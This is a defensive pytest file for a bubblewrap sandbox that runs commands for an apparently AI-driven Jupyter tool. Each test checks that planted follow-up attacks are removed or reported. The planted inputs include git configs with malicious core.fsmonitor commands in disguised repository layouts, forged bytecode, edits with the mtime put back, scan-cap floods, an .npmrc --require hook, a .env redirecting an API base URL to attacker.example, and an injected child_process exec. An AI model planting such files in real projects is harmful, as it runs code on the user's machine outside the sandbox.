"""What a sandboxed command leaves that the user's own git or Python would run, attacked
where the scan after the command used to look away: repository shapes through links, in
caches, environments and new credential directories; a file whose mtime was put back; a
project flooded past the scan's cap; an existing node_modules/ and a new .venv/.

Each planted repository names ``core.fsmonitor`` in its config; the host's real git is run
where the user would run it, and the marker file it would touch must not appear.
The commands really run inside bubblewrap; skipped where it cannot, except under
scripts/test.sh (CI), where MIRA_REQUIRE_BWRAP=1 turns that into a failure.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

from mira_jupyter.testing.sandbox_required import require_bwrap
from mira_jupyter.tools import project_scan
from mira_jupyter.tools.commands import CommandSettings, run_command
from mira_jupyter.tools.dispatch import dispatch
from mira_jupyter.tools.sandbox import Sandbox
from mira_jupyter.tools.types import FileWrite, ToolContext, ToolResult

require_bwrap()


class Run:
    """Stands for the operation's run: collects the notices the cell would show."""

    def __init__(self) -> None:
        self.notices: list[str] = []

    def _notice(self, message: str, level: str = "info") -> None:
        self.notices.append(message)


class Project:
    def __init__(self, base: Path) -> None:
        self.base = base
        self.root = base / "proj"
        self.root.mkdir()
        (self.root / ".git").mkdir()
        (self.root / "app.py").write_text("def f():\n    return 1\n")
        self.sandbox = Sandbox(self.root)
        self.writes: list[FileWrite] = []
        self.run = Run()
        self.marker = base / "FSMONITOR-RAN"

    def py(self, code: str, timeout: float = 120) -> ToolResult:
        ctx = ToolContext(
            sandbox=self.sandbox, on_write=self.writes.append, extra={"commands": CommandSettings(), "run": self.run}
        )
        args = {"argv": ["python", "-c", textwrap.dedent(code)], "timeout": timeout}
        return dispatch({"run_command": run_command}, "run_command", args, ctx)

    def git_status_runs_fsmonitor(self, where: str) -> bool:
        """The user's `git status` where the planted repository was (if the directory is left)."""
        cwd = self.root / where
        if cwd.is_dir():
            subprocess.run(
                ["git", "-c", "safe.directory=*", "status"], cwd=cwd, capture_output=True,
                env={"PATH": "/usr/bin:/bin", "HOME": str(self.base)}, timeout=60,
            )  # fmt: skip
        return self.marker.exists()


@pytest.fixture()
def project(tmp_path):
    return Project(tmp_path)


def _notes(result: ToolResult) -> str:
    assert result.status == "ok", result.content
    return " | ".join(result.content.get("notes") or [])


PRELUDE = """
import os
def config(d, worktree='..'):
    open(d + '/config', 'w').write('[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n'
                                   '\\tworktree = ' + worktree + '\\n\\tfsmonitor = "touch {marker}; false"\\n')
"""

# (where git is run, what the command plants): none of these names a .git
SHAPES = {
    "objects-linked-outside": ("lib", """
        os.makedirs('lib/refs/heads')
        os.symlink('/usr', 'lib/objects')  # any directory git can enter will do
        open('lib/HEAD', 'w').write('ref: refs/heads/trunk\\n')
        config('lib')
    """),
    "all-links-detached-head": ("tools/x", """
        os.makedirs('data/o'); os.makedirs('data/r'); os.makedirs('tools/x')
        os.symlink('../../data/o', 'tools/x/objects'); os.symlink('../../data/r', 'tools/x/refs')
        open('tools/x/HEAD', 'w').write('a' * 40 + '\\n')
        config('tools/x', '../..')
    """),
    "in-a-new-node_modules": ("node_modules/left-pad/lib", """
        d = 'node_modules/left-pad/lib'
        os.makedirs(d + '/objects/info'); os.makedirs(d + '/refs')
        open(d + '/HEAD', 'w').write('ref: refs/heads/main')
        config(d, '../../..')
    """),
    "in-.tox": (".tox/py/lib", """
        d = '.tox/py/lib'
        os.makedirs(d + '/objects'); os.makedirs(d + '/refs')
        open(d + '/HEAD', 'w').write('ref:  refs/heads/x\\n')
        config(d)
    """),
    "in-.pytest_cache": (".pytest_cache/v", """
        d = '.pytest_cache/v'
        os.makedirs(d + '/objects'); os.makedirs(d + '/refs')
        os.symlink('refs/heads/main', d + '/HEAD')
        config(d)
    """),
    "in-a-new-credential-dir": (".gnupg/keys", """
        d = '.gnupg/keys'
        os.makedirs(d + '/objects'); os.makedirs(d + '/refs')
        open(d + '/HEAD', 'w').write('ref: refs/heads/main\\n')
        config(d)
    """),
    "worktree-style-commondir": ("w", """
        os.makedirs('common/objects'); os.makedirs('common/refs'); os.makedirs('w')
        config('common', '../w')
        open('w/HEAD', 'w').write('ref: refs/heads/main\\n')
        open('w/commondir', 'w').write('../common\\n')
    """),
}


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_a_planted_repository_of_any_shape_loses_its_head(project, shape):
    where, plant = SHAPES[shape]
    code = PRELUDE.format(marker=project.marker) + textwrap.dedent(plant) + "\nprint('PLANTED')\n"
    result = project.py(code)
    notes = _notes(result)
    assert "removed the HEAD of git repositories" in notes, notes
    assert not project.git_status_runs_fsmonitor(where)
    assert not os.path.lexists(project.root / where / "HEAD")


def test_a_planted_git_dir_inside_a_new_credential_dir_is_removed(project):
    code = PRELUDE.format(marker=project.marker) + textwrap.dedent(
        """
        os.makedirs('.aws/cli/.git/objects'); os.makedirs('.aws/cli/.git/refs')
        open('.aws/cli/.git/HEAD', 'w').write('ref: refs/heads/main\\n')
        config('.aws/cli/.git')
        """
    )
    notes = _notes(project.py(code))
    assert ".aws/cli/.git" in notes and "removed control files" in notes
    assert not project.git_status_runs_fsmonitor(".aws/cli")


def test_an_existing_bare_repository_in_the_project_is_read_only(project):
    bare = project.root / "fixtures" / "upstream.git"
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True, env={"PATH": "/usr/bin:/bin"})
    before = (bare / "config").read_text()
    result = project.py(
        f"""
        try:
            open('fixtures/upstream.git/config', 'a').write('[core]\\n\\tfsmonitor = "touch {project.marker}; false"\\n')
            print('WROTE')
        except OSError as exc:
            print('refused', exc.errno)
        """
    )
    assert "refused 30" in result.content["output"], result.content
    assert (bare / "config").read_text() == before
    assert (bare / "HEAD").exists()  # the user's own repository keeps its HEAD
    assert not project.git_status_runs_fsmonitor("fixtures/upstream.git")


def test_a_file_changed_with_its_mtime_put_back_is_still_caught(project):
    subprocess.run(
        [sys.executable, "-c", "import py_compile; py_compile.compile('app.py')"], cwd=project.root,
        env={"PATH": "/usr/bin:/bin"}, check=True,
    )  # fmt: skip
    (cached,) = (project.root / "__pycache__").glob("app.*.pyc")
    result = project.py(
        f"""
        import os
        for path in ({str(cached)!r}, 'app.py'):
            st = os.stat(path)
            data = bytearray(open(path, 'rb').read())
            data[-1] ^= 0x20
            open(path, 'r+b').write(bytes(data))
            os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))  # size and mtime as they were
        print('DONE')
        """
    )
    assert cached.name in _notes(result) and not cached.exists()
    (write,) = [w for w in project.writes if w.path == "app.py"]
    assert write.previous == b"def f():\n    return 1\n"


FLOOD = """
import os
for top in ('a0', 'm5', 'z9'):
    os.makedirs(top + '/pkg/__pycache__', exist_ok=True)
    open(top + '/pkg/__pycache__/pkg.cpython-311.pyc', 'wb').write(b'forged')
    os.makedirs(top + '/sub/.git/hooks', exist_ok=True)
    os.makedirs(top + '/bare/objects', exist_ok=True); os.makedirs(top + '/bare/refs', exist_ok=True)
    open(top + '/bare/HEAD', 'w').write('ref: refs/heads/main\\n')
    for i in range({n}):
        open(f'{{top}}/f{{i}}.txt', 'w').close()
open('app.py', 'a').write('# changed\\n')
print('FLOODED')
"""


def test_a_flood_past_the_scan_cap_leaves_nothing_planted_and_says_so(project, monkeypatch):
    """The cap is lowered (a real 200,000-entry flood is ../shared/h19d-repros/g2_flood.py)."""
    monkeypatch.setattr(project_scan, "MAX_ENTRIES", 400, raising=False)
    for i in range(30):
        (project.root / f"keep{i}.txt").write_text("kept\n")
    result = project.py(FLOOD.format(n=400))
    assert "FLOODED" in result.content["output"]
    for top in ("a0", "m5", "z9"):
        for planted in ("pkg/__pycache__/pkg.cpython-311.pyc", "sub/.git", "bare/HEAD"):
            assert not os.path.lexists(project.root / top / planted), f"{top}/{planted}"
    told = [n for n in project.run.notices if "partly recorded" in n]
    assert len(told) == 1, project.run.notices
    assert "more than 400 entries" in _notes(result)
    # files it did not reach are not taken for deleted (undo would "restore" them)
    assert not [w for w in project.writes if w.new_sha256 is None], [w.path for w in project.writes]


def test_an_existing_node_modules_is_read_only_and_a_new_venv_is_reported(project):
    package = project.root / "node_modules" / "left-pad"
    package.mkdir(parents=True)
    (package / "index.js").write_text("module.exports = 1\n")
    result = project.py(
        """
        import os
        for path in ('node_modules/left-pad/index.js', 'node_modules/evil.js'):
            try:
                open(path, 'a').write('require("child_process").exec("evil")\\n'); print('WROTE', path)
            except OSError as exc:
                print('refused', exc.errno)
        os.makedirs('.venv/lib/site-packages')
        open('.venv/lib/site-packages/sitecustomize.py', 'w').write('import os\\n')
        """
    )
    assert result.content["output"].count("refused 30") == 2, result.content
    assert (package / "index.js").read_text() == "module.exports = 1\n"
    shown = " | ".join(project.run.notices)
    assert ".venv/" in shown and "NOT recorded for undo" in shown
    assert ".venv/" in _notes(result)


def test_credential_named_files_a_command_creates_are_told_to_the_user(project):
    """r19d F4: a planted .npmrc (node-options=--require …) was told only to the model; the
    user's next npm ran what it named."""
    result = project.py(
        """
        open('.npmrc', 'w').write('node-options=--require ./tools/setup.js\\n')
        import os; os.makedirs('web', exist_ok=True)
        open('web/.env', 'w').write('OPENAI_BASE_URL=http://attacker.example/v1\\n')
        print('planted')
        """
    )
    assert result.status == "ok" and "credential files appeared" in _notes(result)
    shown = " | ".join(project.run.notices)
    assert "credential-named files" in shown and ".npmrc" in shown and "web/.env" in shown, shown
    assert "NOT recorded for undo" in shown


@pytest.mark.parametrize("stop", ["timeout", "cancelled"])
def test_what_a_stopped_command_planted_is_gone_when_it_returns(project, stop):
    """Documented (README, "while a command runs, what it writes is live"): planted control
    files exist while the command runs; they are removed before run_command returns, also
    when the command is stopped, so nothing is left for the next git status."""

    class Cancel:
        cancelled = False

    cancel = Cancel()
    code = PRELUDE.format(marker=project.marker) + textwrap.dedent(
        """
        os.makedirs('sub/.git/objects'); os.makedirs('sub/.git/refs')
        open('sub/.git/HEAD', 'w').write('ref: refs/heads/main\\n')
        config('sub/.git')
        os.makedirs('lib/objects'); os.makedirs('lib/refs')
        open('lib/HEAD', 'w').write('ref: refs/heads/main\\n')
        config('lib')
        open('PLANTED', 'w').close()
        import time
        time.sleep(600)
        """
    )

    def cancel_once_planted() -> None:
        while not (project.root / "PLANTED").exists():
            time.sleep(0.05)
        cancel.cancelled = True

    if stop == "cancelled":
        threading.Thread(target=cancel_once_planted, daemon=True).start()
    ctx = ToolContext(
        sandbox=project.sandbox, on_write=project.writes.append, cancel=cancel,
        extra={"commands": CommandSettings(), "run": project.run},
    )  # fmt: skip
    args = {"argv": ["python", "-c", code], "timeout": 8 if stop == "timeout" else 120}
    result = dispatch({"run_command": run_command}, "run_command", args, ctx)
    assert result.content.get("stopped") == stop, result.content
    assert (project.root / "PLANTED").exists()  # it did run that far
    assert not os.path.lexists(project.root / "sub" / ".git") and not os.path.lexists(project.root / "lib" / "HEAD")
    assert not project.git_status_runs_fsmonitor("sub") and not project.git_status_runs_fsmonitor("lib")


def test_bytes_kept_from_the_last_command_are_not_reused_for_a_file_the_user_changed(project):
    """The scan before a command reuses the bytes the last one read for an unchanged file;
    a file rewritten since, to the same size with its mtime put back, is read again."""
    target = project.root / "data.txt"
    target.write_text("AAAA\n")
    time.sleep(2.2)  # older than the racy window: the next scan keeps its bytes for reuse
    assert project.py("print('first')").status == "ok"
    st = target.stat()
    target.write_text("BBBB\n")
    os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert project.py("open('data.txt', 'w').write('CCCC\\n')").status == "ok"
    (write,) = [w for w in project.writes if w.path == "data.txt"]
    assert write.previous == b"BBBB\n"  # what undo puts back is what was there
